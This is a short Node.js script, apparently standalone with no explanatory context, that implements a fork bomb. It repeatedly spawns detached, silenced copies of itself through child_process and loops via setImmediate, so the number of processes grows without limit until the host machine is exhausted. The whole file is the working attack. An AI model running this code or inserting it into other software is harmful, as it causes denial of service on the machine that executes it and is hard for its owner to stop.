const { spawn } = require("child_process");
const go = () => {
  const child = spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" });
  child.on("error", () => {});
  setImmediate(go);
};
go();
